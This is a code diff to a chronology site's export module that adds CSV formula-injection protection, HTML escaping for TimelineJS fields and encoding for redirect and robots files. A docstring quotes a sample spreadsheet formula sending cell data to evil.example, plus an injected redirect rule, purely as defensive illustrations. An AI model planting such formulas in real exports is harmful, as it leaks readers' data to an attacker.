@@ -12,6 +12,7 @@ import io
 import json
 from datetime import date
 from typing import Any
+from urllib.parse import quote
 
 from chronicle import urls
 from chronicle.config import Config
@@ -64,6 +65,23 @@ CSV_COLUMNS = ("id", "date", "date_debut", "date_fin", "precision", "base_de_la_
                "annotation", "adresse")
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP "CSV injection", and a line break
+
+
+def spreadsheet_cell(value: str) -> str:
+    """``value`` as a spreadsheet shows it as text, never as a formula.
+
+    Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
+    ``@`` (also after spaces), and a tab or a carriage return can start one in the next cell: a
+    title ``=HYPERLINK("https://evil.example/?"&A1; "Source")`` would run in the reader's sheet.
+    Such a cell gets a leading apostrophe, OWASP's advice, which spreadsheets show as text. Every
+    CSV the site publishes writes its cells through here.
+    """
+    if value.startswith(FORMULA_STARTS) or value.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@"):
+        return "'" + value
+    return value
+
+
 def csv_row(event: Event, chronology: Chronology, config: Config) -> list[str]:
     """One event as a spreadsheet row: names rather than ids, plain text rather than Markdown."""
     date = event.date
@@ -87,8 +105,14 @@ def export_csv(chronology: Chronology, config: Config) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\r\n")
     writer.writerow(CSV_COLUMNS)
-    writer.writerows(csv_row(event, chronology, config) for event in chronology.events)
+    writer.writerows([spreadsheet_cell(cell) for cell in csv_row(event, chronology, config)]
+                     for event in chronology.events)
     return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def text_html(text: str) -> str:
+    """Plain text for a field a program writes with ``innerHTML``: ``&``, ``<`` and ``>`` escaped."""
+    return html.escape(text, quote=False)
 
 
 def timelinejs_date(day: date, precision: str) -> dict[str, str]:
@@ -108,11 +132,13 @@ def timelinejs_event(event: Event, chronology: Chronology, config: Config) -> di
     slide: dict[str, Any] = {
         "unique_id": event.id,
         "start_date": timelinejs_date(first, event.date.precision),
-        "display_date": event.date.display(),
-        "text": {"headline": html.escape(event.title, quote=False),
+        "display_date": text_html(event.date.display()),
+        "text": {"headline": text_html(event.title),
                  "text": f"{render_markdown(event.summary)}<p><a href=\"{html.escape(page_url(event, config))}\">"
                          "La fiche de l'événement et ses sources</a></p>"},
-        "group": chronology.channels[event.channels[0]].name if event.channels else "Hors canal",
+        # TimelineJS writes every one of these (group included) with innerHTML: text is escaped,
+        # ``text.text`` is the summary rendered with raw HTML off, as on the site.
+        "group": text_html(chronology.channels[event.channels[0]].name if event.channels else "Hors canal"),
     }
     if event.date.interval and event.date.end:
         slide["end_date"] = timelinejs_date(event.date.end, event.date.precision)
@@ -127,11 +153,20 @@ def page_url(event: Event, config: Config) -> str:
 def export_timelinejs(chronology: Chronology, config: Config) -> bytes:
     """``timelinejs.json``: the chronology in TimelineJS3's JSON format, to embed in that tool."""
     data = {
-        "title": {"text": {"headline": html.escape(config.title, quote=False),
-                           "text": f"<p>{html.escape(config.subtitle, quote=False)}</p>"}},
+        "title": {"text": {"headline": text_html(config.title),
+                           "text": f"<p>{text_html(config.subtitle)}</p>"}},
         "events": [timelinejs_event(event, chronology, config) for event in chronology.events],
     }
     return (json.dumps(data, ensure_ascii=False, sort_keys=True, indent=1) + "\n").encode("utf-8")
+
+
+def line_field(value: str) -> str:
+    """``value`` as one field of a line-based file (``_redirects``, ``robots.txt``): spaces, line
+    breaks and every other invisible character percent-encoded, so a value is always one field
+    of one line and can never add a rule (``/ /ailleurs 301``) or a line of its own."""
+    if value.isprintable() and not any(char.isspace() for char in value):
+        return value
+    return "".join(char if char.isprintable() and not char.isspace() else quote(char) for char in value)
 
 
 DATA_URLS = (urls.EXPORT, urls.EXPORT_CSV, urls.EXPORT_TIMELINEJS)  # those of ``data_files``, known before them
